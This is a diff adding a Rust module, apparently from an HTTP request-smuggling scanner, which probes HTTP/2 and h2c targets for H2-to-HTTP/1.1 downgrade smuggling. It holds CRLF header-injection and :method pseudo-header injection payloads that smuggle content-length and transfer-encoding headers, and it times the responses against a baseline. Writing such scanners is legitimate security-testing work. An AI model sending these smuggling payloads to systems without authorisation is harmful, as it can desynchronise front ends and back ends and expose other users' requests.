@@ -0,0 +1,353 @@
+use crate::core::dryrun::{
+    dump_payload, dump_response, dumping_payloads, print_dry_run, render_request,
+};
+use crate::core::finding::Finding;
+use crate::core::telemetry::{detect_span, probe, protocol_span};
+use crate::core::utils::protocol_mismatch;
+use crate::modules::options::{DEFAULT_IO_TIMEOUT, ModuleOptions, is_connect_failure};
+use crate::scanner::task::Task;
+use async_trait::async_trait;
+use riphttplib::types::protocol::HttpProtocol;
+use riphttplib::types::{ClientTimeouts, ProtocolError, Request};
+use riphttplib::{DetectedProtocol, H2, detect_protocol};
+use std::time::{Duration, Instant};
+use tracing::Instrument;
+
+const METHOD: &str = "POST";
+
+/// Body of every probe unless `--baseline-body` is given, far shorter than the Content-Length
+/// the injections declare.
+const PROBE_BODY: &str = "aaaaaaaaa";
+/// Harmless header sent with the baseline in place of an injection.
+const BASELINE_HEADER: &str = "x-h2smug: riphttp";
+
+/// Header values carrying line breaks. HTTP/2 frames them as one header, but a front end that
+/// copies them verbatim into HTTP/1.1 hands the back end an extra framing header, and the back
+/// end then waits for a body that never arrives.
+const HEADER_INJECTIONS: [&str; 3] = [
+    "x-h2smug: riphttp\r\ncontent-length: 100000",
+    "x-h2smug: riphttp\r\ntransfer-encoding: chunked",
+    "x-h2smug: riphttp\ncontent-length: 100000",
+];
+/// The `:method` pseudo-header ends the request line early and adds a header of its own.
+const METHOD_INJECTION: &str = "POST / HTTP/1.1\r\ncontent-length: 100000\r\nx-h2smug: riphttp";
+
+/// One attack: the `:method` it is sent with and its extra header.
+struct Injection {
+    label: String,
+    method: &'static str,
+    header: &'static str,
+}
+
+fn injections() -> Vec<Injection> {
+    let mut injections: Vec<Injection> = HEADER_INJECTIONS
+        .iter()
+        .enumerate()
+        .map(|(i, header)| Injection {
+            label: format!("header {}", i + 1),
+            method: METHOD,
+            header,
+        })
+        .collect();
+    injections.push(Injection {
+        label: "pseudo-header :method".to_string(),
+        method: METHOD_INJECTION,
+        header: BASELINE_HEADER,
+    });
+    injections
+}
+
+#[derive(Clone)]
+pub struct H2SmugTask {
+    options: ModuleOptions,
+}
+
+impl Default for H2SmugTask {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl H2SmugTask {
+    pub fn new() -> Self {
+        Self::with_options(ModuleOptions::default())
+    }
+
+    pub fn with_options(options: ModuleOptions) -> Self {
+        Self { options }
+    }
+
+    /// `--baseline-body`, or the built-in filler.
+    fn probe_body(&self) -> &str {
+        self.options.baseline_body.as_deref().unwrap_or(PROBE_BODY)
+    }
+
+    fn build_probe_request(
+        &self,
+        target: &str,
+        method: &str,
+        header: &str,
+        timeouts: &ClientTimeouts,
+    ) -> Result<Request, ProtocolError> {
+        Ok(Request::new(target, method)?
+            .header(header)
+            .body(self.probe_body().to_owned())
+            .timeout(timeouts.clone())
+            .follow_redirects(false))
+    }
+
+    /// The HTTP/1.1 request a front end produces when it copies the probe verbatim, which is
+    /// where the injected lines show up as headers of their own.
+    fn render_probe(
+        &self,
+        target: &str,
+        method: &str,
+        header: &str,
+    ) -> Result<String, ProtocolError> {
+        let headers = self.options.with_host_header(vec![
+            format!("user-agent: {}", self.options.user_agent()),
+            header.to_string(),
+        ]);
+        render_request(method, target, &headers, Some(self.probe_body()), &[])
+    }
+
+    fn print_payloads(&self, target: &str) -> Result<(), ProtocolError> {
+        let mut payloads = vec![(
+            "baseline".to_string(),
+            self.render_probe(target, METHOD, BASELINE_HEADER)?,
+        )];
+        for injection in self.ordered_injections(target) {
+            payloads.push((
+                injection.label.clone(),
+                self.render_probe(target, injection.method, injection.header)?,
+            ));
+        }
+        print_dry_run(target, "H2Smug", &payloads);
+        Ok(())
+    }
+
+    /// The injections in the order they are sent to `target`, per `--probe-order`.
+    fn ordered_injections(&self, target: &str) -> Vec<Injection> {
+        let mut injections: Vec<Option<Injection>> = injections().into_iter().map(Some).collect();
+        self.options
+            .probe_order(target, injections.len())
+            .into_iter()
+            .filter_map(|i| injections[i].take())
+            .collect()
+    }
+
+    fn apply_detected_port(request: Request, detected: &DetectedProtocol) -> Request {
+        if let Some(port) = detected.port {
+            request.set_port(port)
+        } else {
+            request
+        }
+    }
+
+    /// How long an attack may take before it counts as a back-end stall: `--timeout-threshold`,
+    /// or 90% of the read timeout.
+    fn timeout_threshold(&self, timeouts: &ClientTimeouts) -> Duration {
+        self.options
+            .timeout_threshold
+            .unwrap_or_else(|| timeouts.read.unwrap_or(DEFAULT_IO_TIMEOUT) * 9 / 10)
+    }
+
+    async fn scan_detected(
+        &self,
+        client: &H2,
+        target: &str,
+        detected: &DetectedProtocol,
+        timeouts: &ClientTimeouts,
+        proxy: Option<&str>,
+    ) -> Result<Vec<String>, ProtocolError> {
+        let mut jitter = self
+            .options
+            .jitter_for(&format!("{} {}", target, detected.protocol));
+        let mut findings = Vec::new();
+
+        // A slow or failing baseline would make every attack look like a stall, so it gates them.
+        jitter.sleep().await;
+        self.options
+            .warm_up(target, async || {
+                let request =
+                    self.build_probe_request(target, METHOD, BASELINE_HEADER, timeouts)?;
+                let request = Self::apply_detected_port(request, detected);
+                client
+                    .send_request(self.options.prepare(request, proxy)?)
+                    .await
+            })
+            .await;
+        if dumping_payloads() {
+            dump_payload(
+                target,
+                "H2Smug",
+                "baseline",
+                &self.render_probe(target, METHOD, BASELINE_HEADER)?,
+            );
+        }
+        let request = self.build_probe_request(target, METHOD, BASELINE_HEADER, timeouts)?;
+        let request = Self::apply_detected_port(request, detected);
+        let request = self.options.prepare(request, proxy)?;
+        let start = Instant::now();
+        let baseline = probe("baseline", client.send_request(request)).await;
+        let baseline_elapsed = start.elapsed();
+        self.options.report_proxy(proxy, &baseline);
+        let baseline = match baseline {
+            Ok(response) => self.options.cap_body(response),
+            Err(ProtocolError::Timeout) => return Ok(findings),
+            Err(err) => return Err(err),
+        };
+        dump_response(target, "H2Smug", "baseline", &baseline);
+        if crate::is_verbose()
+            && let Some(mismatch) = protocol_mismatch(&detected.protocol, &baseline)
+        {
+            eprintln!("{} baseline of {}: {}", detected.protocol, target, mismatch);
+        }
+
+        let threshold = self.timeout_threshold(timeouts);
+        if baseline.status == 504
+            || baseline_elapsed >= threshold
+            || self.options.skip_baseline_status.contains(&baseline.status)
+        {
+            return Ok(findings);
+        }
+
+        let mut consecutive_errors = 0;
+        for injection in self.ordered_injections(target) {
+            let payload = self.render_probe(target, injection.method, injection.header)?;
+            jitter.sleep().await;
+            if dumping_payloads() {
+                dump_payload(target, "H2Smug", &injection.label, &payload);
+            }
+            let request =
+                self.build_probe_request(target, injection.method, injection.header, timeouts)?;
+            let request = Self::apply_detected_port(request, detected);
+            let request = self.options.prepare(request, proxy)?;
+            let start = Instant::now();
+            let response = probe(&injection.label, client.send_request(request)).await;
+            let elapsed = start.elapsed();
+
+            let finding = match response {
+                Ok(response) => {
+                    consecutive_errors = 0;
+                    let response = self.options.cap_body(response);
+                    dump_response(target, "H2Smug", &injection.label, &response);
+                    let message = if response.status == 504 {
+                        Some(format!(
+                            "[+] gateway timeout! {} {} {:?} {}",
+                            detected.protocol, target, detected.port, injection.label
+                        ))
+                    } else if elapsed >= threshold {
+                        Some(format!(
+                            "[+] stalled response! {} {} {:?} {} status {} after {}ms",
+                            detected.protocol,
+                            target,
+                            detected.port,
+                            injection.label,
+                            response.status,
+                            elapsed.as_millis()
+                        ))
+                    } else {
+                        None
+                    };
+                    message.map(|message| {
+                        Finding::new(target, "H2Smug", message).with_response(&response)
+                    })
+                }
+                // The stream outlived the read timeout while the baseline came back in time.
+                Err(ProtocolError::Timeout) => {
+                    consecutive_errors = 0;
+                    Some(Finding::new(
+                        target,
+                        "H2Smug",
+                        format!(
+                            "[+] timeout! {} {} {:?} {}",
+                            detected.protocol, target, detected.port, injection.label
+                        ),
+                    ))
+                }
+                // Front ends that validate header values reset the stream, which is the safe outcome.
+                Err(err) => {
+                    if crate::is_verbose() {
+                        eprintln!("H2 {} rejected by {}: {}", injection.label, target, err);
+                    }
+                    if matches!(&err, ProtocolError::InvalidTarget(_)) {
+                        return Err(err);
+                    }
+                    if is_connect_failure(&err) {
+                        consecutive_errors += 1;
+                        if self.options.too_many_errors(target, consecutive_errors) {
+                            break;
+                        }
+                    }
+                    None
+                }
+            };
+
+            if let Some(finding) = finding {
+                let finding = finding
+                    .with_payload(payload)
+                    .with_baseline(&baseline)
+                    .with_latency(elapsed);
+                findings.extend(self.options.report(finding));
+            }
+        }
+
+        Ok(findings)
+    }
+}
+
+impl H2SmugTask {
+    async fn scan_path(&self, target: String) -> Result<String, ProtocolError> {
+        let timeouts = self.options.timeouts();
+
+        if self.options.dry_run {
+            self.print_payloads(&target)?;
+            return Ok(String::new());
+        }
+
+        let client = H2::timeouts(timeouts.clone());
+        let Ok(proxy) = self.options.select_proxy(&target) else {
+            return Ok(String::new());
+        };
+        let protocols = detect_protocol(&target).instrument(detect_span()).await?;
+        let mut findings = Vec::new();
+
+        for detected in protocols.iter().filter(|detected| {
+            matches!(detected.protocol, HttpProtocol::Http2 | HttpProtocol::H2C)
+                && self.options.scans_protocol(&detected.protocol)
+        }) {
+            match self
+                .scan_detected(&client, &target, detected, &timeouts, proxy.as_deref())
+                .instrument(protocol_span("H2Smug", &detected.protocol))
+                .await
+            {
+                Ok(found) => findings.extend(found),
+                Err(err) => {
+                    if crate::is_verbose() {
+                        eprintln!(
+                            "Failed to scan {} using {}: {}",
+                            target, detected.protocol, err
+                        );
+                    }
+                    if matches!(&err, ProtocolError::InvalidTarget(_)) {
+                        return Err(err);
+                    }
+                }
+            }
+        }
+
+        Ok(findings.join("\n"))
+    }
+}
+
+#[async_trait(?Send)]
+impl Task for H2SmugTask {
+    type Error = ProtocolError;
+
+    async fn execute(&self, target: String) -> Result<String, Self::Error> {
+        self.options
+            .scan_paths(&target, |target| self.scan_path(target))
+            .await
+    }
+}